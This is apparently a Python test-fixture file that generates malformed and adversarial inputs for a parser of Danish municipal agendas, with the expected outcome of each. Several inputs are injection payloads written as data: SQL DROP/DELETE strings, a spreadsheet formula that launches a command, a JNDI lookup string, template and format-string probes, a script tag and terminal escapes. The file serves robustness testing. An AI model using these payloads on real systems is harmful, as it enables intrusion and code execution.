"""Texts that nobody should send, each with what must become of it."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from typing import Literal

Expected = Literal["loaded", "partial", "failed"]

AGENDA = """DAGSORDEN 2031

KKR Nordjylland

Dato: 05-03-2031 10:00

1. Godkendelse af dagsorden

1.1. Godkendelse af dagsorden

Indstilling

Det indstilles, at KKR Nordjylland godkender dagsordenen.
"""


def zip_bytes(name: str) -> bytes:
    """A ZIP archive with one member of a fixed date."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name, (2031, 3, 5, 0, 0, 0)), b"<w:document/>")
    return out.getvalue()


def runs(text: str, count: int) -> bytes:
    """A text many times over."""
    return (text * count).encode("utf-8")


def random_text(size: int = 40_000) -> bytes:
    """Random bytes, the same each time."""
    return random.Random(11).randbytes(size)


def catastrophic() -> bytes:
    """Long runs of what patterns like to repeat: dots, digits, blanks, hyphens, brackets."""
    parts = ["." * 50_000, "1" * 50_000, " " * 50_000, "-" * 50_000, "(" * 50_000, "1." * 25_000, "a-" * 25_000]
    parts += ["1 " * 25_000, "§ " * 25_000, "kr. " * 12_000, "x\t" * 25_000, "KKR " * 12_000, "Bilag 1: " * 5_000]
    parts += [f"{'.' * 30_000}{page}" for page in range(3)] + ["den 1. januar 20" * 5_000, "A B C " * 9_000]
    return "\n".join(parts).encode("utf-8")


TABLE = "Tabel 1: Pladser\nKommune\t2030\t2031\n"


def rows(count: int) -> bytes:
    """A table of many rows, its columns apart by tabs."""
    body = "".join(f"Tilbud {number}\t{number}\t{number + 1}\n" for number in range(count))
    return (AGENDA + TABLE + body).encode()


def spaced_rows(count: int) -> bytes:
    """The same with its columns kept by spaces."""
    body = "".join(f"Tilbud {number:<12}{number:>8}{number + 1:>10}{number % 97:>10}\n" for number in range(count))
    return (AGENDA + "Tabel 1: Pladser\n\nTilbud                 2029      2030      2031\n" + body).encode()


def contents(count: int) -> bytes:
    """A table of contents of many items that have no body."""
    entries = (f"{n // 100 + 1}.{n % 100 + 1} Orienteringssag: Sag {n} {'.' * 20} {n + 1}\n" for n in range(count))
    return ("Indholdsfortegnelse\n" + "".join(entries)).encode()


def endless_numbers() -> bytes:
    """Numbers of 5,000 digits, and what other programs call numbers."""
    digits = "9" * 5_000
    lines = f"Horsens\t{digits}\t1e309\nOdder\t12\tInfinity\nSkive\t-1e400\tNaN\nI alt\t53\t56\n"
    prose = f"Beløbet er {digits} kr. og 1e309 mio. kr. og {digits},5 pct.\nMål 3.1: {digits} pct.\n"
    return (AGENDA + TABLE + lines + prose).encode()


NO_DAYS = (
    "31.02.2025 00-00-0000 1/1 0 den 30. februar 2024 29/2-2023 32. maj 2024 1.1.0000 den 0. marts 2024 2025-13-45"
)
"""What looks like dates and is in no calendar."""


TEXTS: tuple[tuple[str, str, Callable[[], bytes], tuple[Expected, ...], str], ...] = (
    ("empty.txt", "empty file", lambda: b"", ("failed",), ""),
    ("empty.pdf", "empty file under .pdf", lambda: b"", ("failed",), ""),
    ("blank.txt", "blanks only", lambda: b" \n\t \r\n" * 50, ("loaded", "partial", "failed"), ""),
    ("random.txt", "random bytes under .txt", random_text, ("failed",), ""),
    ("word.txt", "Word under .txt", lambda: zip_bytes("word/document.xml"), ("failed",), ""),
    (
        "controls.txt",
        "control bytes",
        lambda: AGENDA.replace(" ", " \x01\x0b\x1b[31m", 3).encode() + b"\x00\x07\x7f",
        ("loaded", "partial", "failed"),
        "",
    ),
    (
        "surrogates.txt",
        "lone surrogates",
        lambda: (AGENDA + "Navn: \ud800\udfff\udc00\n").encode("utf-8", "surrogatepass"),
        ("loaded", "partial"),
        "",
    ),
    (
        "megabyte.txt",
        "one line of a megabyte",
        lambda: runs("Kommunen betaler 1.000 kr. ", 40_000),
        ("loaded",),
        "",
    ),
    ("token.txt", "one word of a megabyte", lambda: runs("å", 500_000), ("loaded",), ""),
    ("utf16.txt", "UTF-16", lambda: AGENDA.encode("utf-16"), ("loaded",), ""),
    ("utf16be.txt", "UTF-16 big endian", lambda: b"\xfe\xff" + AGENDA.encode("utf-16-be"), ("loaded",), ""),
    ("utf8-bom.txt", "UTF-8 with BOM", lambda: AGENDA.encode("utf-8-sig"), ("loaded",), ""),
    ("cp1252.txt", "CP1252", lambda: (AGENDA + "Århus – Ærø “øst”\n").encode("cp1252"), ("loaded",), ""),
    ("mac.txt", "lines that end in CR", lambda: AGENDA.replace("\n", "\r").encode(), ("loaded",), ""),
    (
        "sql.txt",
        "text that looks like SQL",
        lambda: (AGENDA + "'); DROP TABLE items; --\n\"; DELETE FROM documents; /* $1 ? %s {0} */\n").encode(),
        ("loaded",),
        "",
    ),
    (
        "formulas.txt",
        "formulas in cells",
        lambda: (
            AGENDA + "TABEL 1: BIDRAG\nKommune\t2030\t2031\n=cmd|' /C calc'!A0\t12\t13\n+SUM(A1:A9)\t14\t15\n"
            "@Viborg\t16\t17\n-2+3\t18\t19\nI alt\t60\t64\n"
        ).encode(),
        ("loaded",),
        "",
    ),
    ("regex.txt", "runs that patterns choke on", catastrophic, ("loaded", "partial"), ""),
    ("lines.txt", "100,000 lines of one letter", lambda: runs("1\n", 100_000), ("loaded", "partial"), ""),
    (
        "depth.txt",
        "numbers nested a thousand deep",
        lambda: "\n".join(f"{'1.' * depth}1 Punkt" for depth in range(1, 1_000, 7)).encode(),
        ("loaded", "partial"),
        "",
    ),
    (
        "headers.txt",
        "ten thousand item headers",
        lambda: "\n".join(f"{n % 9 + 1}.{n % 97} Orienteringssag: Punkt {n}" for n in range(10_000)).encode(),
        ("loaded", "partial"),
        "",
    ),
    (
        "tabs.txt",
        "a table of a thousand columns",
        lambda: "\n".join("\t".join(str(row * column) for column in range(1_000)) for row in range(60)).encode(),
        ("loaded", "partial"),
        "",
    ),
    (
        "bidi.txt",
        "marks that turn the order of letters",
        lambda: (
            AGENDA
            + TABLE
            + "\u202eHorsens\u202c\t\u200f41\u200e\t4\u202d4\u202c\n"
            + "Odder\u200b\t1\u200b2\t12\ufeff\nI alt\t53\t56\n"
        ).encode(),
        ("loaded",),
        "",
    ),
    (
        "zero-width.txt",
        "marks that print nothing",
        lambda: AGENDA.replace("Godk", "God\u200bk\u2060").encode(),
        ("loaded",),
        "",
    ),
    ("utf32.txt", "UTF-32", lambda: AGENDA.encode("utf-32"), ("loaded",), ""),
    ("utf32be.txt", "UTF-32 without its mark", lambda: AGENDA.encode("utf-32-be"), ("failed",), ""),
    ("utf16le.txt", "UTF-16 without its mark", lambda: AGENDA.encode("utf-16-le"), ("loaded",), ""),
    ("macroman.txt", "Mac OS Roman", lambda: (AGENDA + "Århus – Ærø ånd\n").encode("mac_roman"), ("loaded",), ""),
    ("cp865.txt", "code page 865", lambda: (AGENDA + "Århus Ærø ånd\n").encode("cp865"), ("loaded",), ""),
    ("feeds.txt", "a million form feeds", lambda: AGENDA.encode() + b"\f" * 1_000_000, ("loaded",), ""),
    ("feed-lines.txt", "50,000 empty pages", lambda: AGENDA.encode() + b"\f\n" * 50_000, ("loaded",), ""),
    ("lfcr.txt", "line ends the wrong way round", lambda: AGENDA.replace("\n", "\n\r").encode(), ("loaded",), ""),
    ("separators.txt", "line ends of Unicode", lambda: AGENDA.replace("\n", "\u2028").encode(), ("loaded",), ""),
    ("rows.txt", "a table of 10,000 rows", lambda: rows(10_000), ("loaded",), ""),
    ("spaces.txt", "a table of 50,000 rows kept by spaces", lambda: spaced_rows(50_000), ("loaded", "partial"), ""),
    ("contents.txt", "10,000 entries in a table of contents", lambda: contents(10_000), ("loaded", "partial"), ""),
    ("numbers.txt", "numbers of 5,000 digits", endless_numbers, ("loaded",), ""),
    ("dates.txt", "days that are in no calendar", lambda: (AGENDA + NO_DAYS).encode(), ("loaded",), ""),
    ("year0.txt", "a meeting in the year 0", lambda: AGENDA.replace("2031", "0000").encode(), ("loaded",), ""),
    (
        "year9999.txt",
        "a meeting in the year 9999",
        lambda: AGENDA.replace("2031", "9999").encode(),
        ("loaded",),
        "",
    ),
    (
        "combining.txt",
        "200,000 accents on a letter",
        lambda: (AGENDA + "a" + "\u0301" * 200_000).encode(),
        ("loaded",),
        "",
    ),
    (
        "escapes.txt",
        "orders to a terminal",
        lambda: (AGENDA + "\x1b]0;x\x07\x1b[2J\x1b[31mrød\x1b[0m").encode(),
        ("loaded",),
        "",
    ),
    (
        "templates.txt",
        "orders to templates and loggers",
        lambda: (AGENDA + "{{7*7}} ${jndi:ldap://x} %n%s <script>").encode(),
        ("loaded",),
        "",
    ),
    (
        "brackets.txt",
        "30,000 party letters",
        lambda: (AGENDA + "(V), " * 30_000 + "(A) Bo Bo, " * 10_000).encode(),
        ("loaded",),
        "",
    ),
    (
        "laws.txt",
        "10,000 laws in one sentence",
        lambda: (AGENDA + "§ 1, stk. 2, nr. 3 i lov nr. 4 af 5. maj 2020 om " * 10_000).encode(),
        ("loaded",),
        "",
    ),
    (
        "money.txt",
        "30,000 amounts in one sentence",
        lambda: (AGENDA + "24,5 mio. kr. og " * 30_000).encode(),
        ("loaded",),
        "",
    ),
)
